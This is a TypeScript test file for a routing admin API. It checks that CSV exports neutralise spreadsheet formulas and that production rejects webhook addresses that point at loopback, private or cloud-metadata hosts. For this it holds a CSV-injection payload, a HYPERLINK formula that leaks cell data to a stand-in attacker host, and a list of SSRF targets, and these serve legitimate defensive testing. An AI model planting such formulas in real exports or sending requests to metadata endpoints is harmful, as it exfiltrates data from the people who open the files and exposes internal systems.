/**
 * Routing data an operator exports and opens in a spreadsheet, and addresses the admin API may
 * set: a formula in a cell stays text, an export imports back unchanged, and in production an
 * address cannot point the runtime at loopback, private or link-local hosts.
 */
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { parse } from 'csv-parse/sync';
import { tableFromCsv, tableToCsv } from '../src/routing/csv.js';
import type { RoutingDocument } from '../src/routing/document.js';
import { startStack, type TestStack } from './support/runtime.js';

const ADMIN = '/_efa/admin/routing';
const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Klick")';

async function tokenFor(stack: TestStack): Promise<string> {
  const creds = stack.rt.devCredentials;
  assert.ok(creds, 'development stacks have the generated operator');
  const res = await fetch(`${stack.url}/_efa/oauth/token`, {
    method: 'POST',
    headers: { authorization: `Basic ${Buffer.from(`${creds.clientId}:${creds.clientSecret}`).toString('base64')}`, 'content-type': 'application/x-www-form-urlencoded' },
    body: 'grant_type=client_credentials',
  });
  assert.equal(res.status, 200);
  return ((await res.json()) as { access_token: string }).access_token;
}

async function call(stack: TestStack, token: string, method: string, path: string, type?: string, body?: string): Promise<{ status: number; text: string }> {
  const res = await fetch(`${stack.url}${path}`, { method, headers: { authorization: `Bearer ${token}`, ...(type ? { 'content-type': type } : {}) }, ...(body !== undefined ? { body } : {}) });
  return { status: res.status, text: await res.text() };
}

describe('routing CSV export: formulas stay text', () => {
  let stack: TestStack;
  let token: string;
  before(async () => {
    stack = await startStack({ database: 'pglite' });
    token = await tokenFor(stack);
  });
  after(() => stack.close());

  test('=HYPERLINK(…), +, -, @, tab and CR at a cell start are exported inert, and the export imports back unchanged', async () => {
    const authorities = JSON.parse((await call(stack, token, 'GET', `${ADMIN}/authorities`)).text) as Array<{ id: string; name: string; contact?: Record<string, string> }>;
    const [first, second, third] = authorities as [typeof authorities[0], typeof authorities[0], typeof authorities[0]];
    first.name = FORMULA;
    second.contact = { ...second.contact, phone: '+49 431 988-0' };
    third.name = "'=already quoted";
    const put = await call(stack, token, 'PUT', `${ADMIN}/authorities`, 'application/json', JSON.stringify(authorities));
    assert.ok([200, 201].includes(put.status), put.text);
    const stored = (await call(stack, token, 'GET', `${ADMIN}/authorities`)).text;

    const csv = (await call(stack, token, 'GET', `${ADMIN}/authorities?format=csv`)).text;
    const cells = (parse(csv, { relax_column_count: false }) as string[][]).flat();
    const dangerous = cells.filter((c) => /^[=+\-@\t\r]/.test(c));
    assert.deepEqual(dangerous, [], 'no cell a spreadsheet would evaluate');
    assert.ok(cells.includes(`'${FORMULA}`), 'the formula is there, as text behind an apostrophe');
    assert.ok(cells.includes("'+49 431 988-0"));
    assert.ok(cells.includes("''=already quoted"), 'a value that already began with an apostrophe keeps it');

    const back = await call(stack, token, 'PUT', `${ADMIN}/authorities`, 'text/csv', csv);
    assert.equal(back.status, 200, back.text);
    assert.equal((JSON.parse(back.text) as { created: boolean }).created, false, 'importing the export changes nothing');
    assert.equal((await call(stack, token, 'GET', `${ADMIN}/authorities`)).text, stored);
  });

  test('every table round-trips through CSV, whatever a cell begins with', () => {
    const awkward = ['=1+1', '+1', '-1', '@SUM(A1)', "'=x", "''+y", 'a;b', 'Zeile\nzwei', '"q"', 'plain'];
    const doc: RoutingDocument = {
      authorities: awkward.map((name, i) => ({ id: `a${i}`, name, contact: { phone: name } })),
      responsibilities: [{ leikaKey: '99050012104000', arsPrefix: '01', authorityId: 'a0' }],
      directory: [{ authorityId: 'a0', serviceKey: '99050012104000', transport: 'webhook', address: 'https://x.example/-hook', encryptionKey: 'keys/x.enc.json', identifiers: { box: '=box' }, options: { note: '@x' } }],
      keys: {},
    } as unknown as RoutingDocument;
    for (const table of ['authorities', 'responsibilities', 'directory'] as const) {
      const csv = tableToCsv(doc, table);
      const again = tableFromCsv(csv, table, `${table}.csv`).rows;
      assert.deepEqual(again, doc[table], table);
    }
    // The import trims cells (as it always did), so a leading tab is not kept; it is still inert.
    const tab = tableToCsv({ ...doc, authorities: [{ id: 't', name: '\tx' }] } as RoutingDocument, 'authorities');
    assert.ok((parse(tab) as string[][]).flat().includes("'\tx"), 'a tab at the start is exported behind an apostrophe');
  });
});

describe('routing:write in production refuses non-public addresses', () => {
  let stack: TestStack;
  let token: string;
  before(async () => {
    // Production's default, set explicitly: the stack itself runs in development mode.
    stack = await startStack({ database: 'pglite', env: { EFA_ALLOW_PRIVATE_TARGETS: 'false' } });
    token = await tokenFor(stack);
  });
  after(() => stack.close());

  test('an address naming loopback, a private network or cloud metadata is refused at import, naming the row; a public host is taken', async () => {
    const directory = JSON.parse((await call(stack, token, 'GET', `${ADMIN}/directory`)).text) as Array<Record<string, unknown>>;
    const entry = directory.find((e) => e.transport === 'webhook');
    assert.ok(entry, 'the demo directory has a webhook entry');
    for (const address of ['http://127.0.0.1:8080/hook', 'http://localhost/hook', 'http://169.254.169.254/latest/meta-data/', 'http://10.0.0.7/hook', 'http://[::1]/hook']) {
      const res = await call(stack, token, 'PUT', `${ADMIN}/directory`, 'application/json', JSON.stringify([{ ...entry, address }]));
      assert.equal(res.status, 422, `${address}: ${res.text}`);
      const body = JSON.parse(res.text) as { problems: Array<{ path?: string; message: string }> };
      assert.equal(body.problems.length, 1, address);
      assert.equal(body.problems[0]?.path, '/0/address', address);
      assert.match(body.problems[0]?.message ?? '', /is not a public address.*EFA_ALLOW_PRIVATE_TARGETS/, address);
    }
    assert.equal((JSON.parse((await call(stack, token, 'GET', ADMIN)).text) as { version?: { version: number } }).version?.version ?? 0, 0, 'nothing was stored');
    const ok = await call(stack, token, 'PUT', `${ADMIN}/directory`, 'application/json', JSON.stringify([{ ...entry, address: 'https://fachverfahren.gewerbe.example/hook' }]));
    assert.equal(ok.status, 201, ok.text);
  });
});
